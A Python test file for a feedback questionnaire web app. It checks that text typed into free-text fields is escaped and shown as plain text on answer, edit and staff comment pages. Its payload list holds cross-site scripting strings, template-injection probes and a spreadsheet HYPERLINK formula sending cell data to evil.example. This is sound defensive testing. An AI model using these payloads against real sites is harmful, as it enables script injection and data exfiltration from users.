"""Script and markup typed into any free-text field comes back as text, never as markup.

Each payload goes into every free-text field of every questionnaire a link can open, and is
read back, parsed, from the check answers page, from the question page reopened to change it,
and from the staff comments page (and its search box): no element or attribute was injected,
and the text is shown exactly as typed. (Exports and Slack are covered by tests/test_exports.py
and tests/slack/.)
"""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup

from feedback.questionnaires import FREE_TEXT
from tests.helpers.pages import Browser, parse

from .flows import CHECK_HEADINGS, LINKED, Journey

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}} {{ config }} {% print(7*7) %} ${7*7} #{7*7}",
    '=HYPERLINK("https://evil.example/?d="&A1,"Click for your results")',
    "</textarea><svg onload=alert(1)><textarea>",
    '<a href="javascript:alert(1)">link</a> &lt;b&gt;bold&lt;/b&gt; &amp; <!-- comment',
    "' onmouseover='alert(1)' data-x='",
    "</span></dd></dl><iframe src=//evil.example></iframe>",
]
PASSWORD = "correct horse battery staple"


def injected(soup: BeautifulSoup) -> list[str]:
    """Elements and attributes that only a payload could have put in the page."""
    found = []
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            if name.lower().startswith("on") or name.lower() == "data-x":
                found.append(f"<{tag.name} {name}>")
            if isinstance(value, str) and value.strip().lower().startswith("javascript:"):
                found.append(f"<{tag.name} {name}={value}>")
        if tag.name == "iframe" or (tag.name == "img" and tag.get("src") == "x"):
            found.append(str(tag)[:80])
        if tag.name == "script" and "alert" in tag.get_text():
            found.append(str(tag)[:80])
    return found


def text_questions(definition) -> list[str]:
    return [q.code for q in definition.all_questions if q.kind == FREE_TEXT]


def summary_value(page, question_text: str) -> str:
    for row in page.soup.select(".govuk-summary-list__row"):
        key = " ".join(row.select_one(".govuk-summary-list__key").get_text(" ", strip=True).split())
        if key == question_text:
            return row.select_one(".govuk-summary-list__value .app-preserve-lines").get_text()
    raise AssertionError(f"no row for {question_text!r}")


@pytest.fixture
def analyst_browser(app, runner):
    result = runner.invoke(args=["users", "add", "escaping@justice.gov.uk", "--role", "analyst",
                                 "--password-stdin"], input=PASSWORD + "\n")
    assert result.exit_code == 0, result.output
    browser = Browser(app.test_client())
    browser.get("/staff/sign-in?next=/staff/")
    home = browser.submit({"email": "escaping@justice.gov.uk", "password": PASSWORD})
    assert home.h1.startswith("Results")
    return browser


def test_payloads_in_every_free_text_field_are_shown_as_text(app, links, analyst_browser, numbers):
    pages_checked = 0
    sent: dict[str, list[str]] = {}
    for definition in LINKED:
        codes = text_questions(definition)
        assert codes, definition.code
        for payload in PAYLOADS:
            journey = Journey(app, links(definition), definition)
            journey.answer_until_check(text=payload)

            check = parse(journey.client.get("/survey/check"))
            assert check.h1 in CHECK_HEADINGS
            assert injected(check.soup) == []
            for code in codes:  # every one is asked: the journey answers "yes" to obstacles
                assert summary_value(check, str(definition.question(code).text)) == payload
                sent.setdefault(definition.code, []).append(payload)

            # Reopened to change it, the answer is back in its box, as text.
            reopened = parse(journey.client.get(f"/survey/questions/{codes[0]}?change=1"))
            assert injected(reopened.soup) == []
            assert reopened.soup.find("textarea", {"name": "answer"}).get_text() == payload
            pages_checked += 2

            journey.post({}, "/survey/check")
            assert journey.path == "/survey/complete"

    for definition in LINKED:
        page = analyst_browser.get(f"/staff/results/{definition.code}/comments")
        assert page.status == 200
        assert injected(page.soup) == []
        shown = sorted(p.get_text() for p in page.soup.select(".app-comment .app-preserve-lines"))
        assert shown == sorted(sent[definition.code])
        for payload in PAYLOADS:
            # The search box shows what was searched for, as text, and finds the comments.
            searched = analyst_browser.client.get(
                f"/staff/results/{definition.code}/comments", query_string={"q": payload}
            )
            found = parse(searched)
            assert injected(found.soup) == []
            assert found.soup.find("input", {"name": "q"})["value"] == payload[:200]
            matching = [p.get_text() for p in found.soup.select(".app-comment .app-preserve-lines")]
            assert matching and set(matching) == {payload}
            pages_checked += 1
        pages_checked += 1
    numbers(f"{len(PAYLOADS)} payloads x {sum(len(text_questions(d)) for d in LINKED)} free-text fields "
            f"in {len(LINKED)} questionnaires: {sum(map(len, sent.values()))} answers, {pages_checked} pages parsed, "
            f"nothing injected")

